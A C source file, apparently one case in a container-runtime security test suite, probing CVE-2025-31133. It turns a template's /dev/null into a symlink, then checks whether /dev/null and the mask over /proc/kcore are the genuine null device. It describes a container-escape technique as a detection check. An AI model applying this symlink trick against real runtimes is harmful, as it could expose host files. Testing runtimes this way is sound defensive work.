/*
 * template-dev-null-symlink: runtimes mask paths by mounting /dev/null over them; a template's own /dev/null that is a
 * symlink had another file mounted, writable (CVE-2025-31133).
 */
#include "attack/attack.h"
#include "attack/ground.h"

#include <fcntl.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

static int prepare(const struct ground *ground)
{
    return ground_replace_with_symlink(ground, "dev/null", ground->canary);
}

static void inside(struct attempt *attempt)
{
    struct stat st = {0};
    int fd = open("/dev/null", O_WRONLY | O_CLOEXEC);
    bool is_null = fd >= 0 && fstat(fd, &st) == 0 && S_ISCHR(st.st_mode) && st.st_rdev == makedev(1, 3);

    attempt_say(attempt, "/dev/null", is_null, "it is something else");
    fd = open("/proc/kcore", O_RDONLY | O_CLOEXEC);
    is_null = fd < 0 || (fstat(fd, &st) == 0 && S_ISCHR(st.st_mode) && st.st_rdev == makedev(1, 3));
    attempt_say(attempt, "what masks /proc/kcore", is_null, "it is something else");
}

const struct attack attack_template_dev_null_symlink = {
    .name = "template-dev-null-symlink",
    .tries = "a template whose /dev/null leads to the host",
    .group = ATTACK_FILES,
    .inside = inside,
    .prepare = prepare,
};
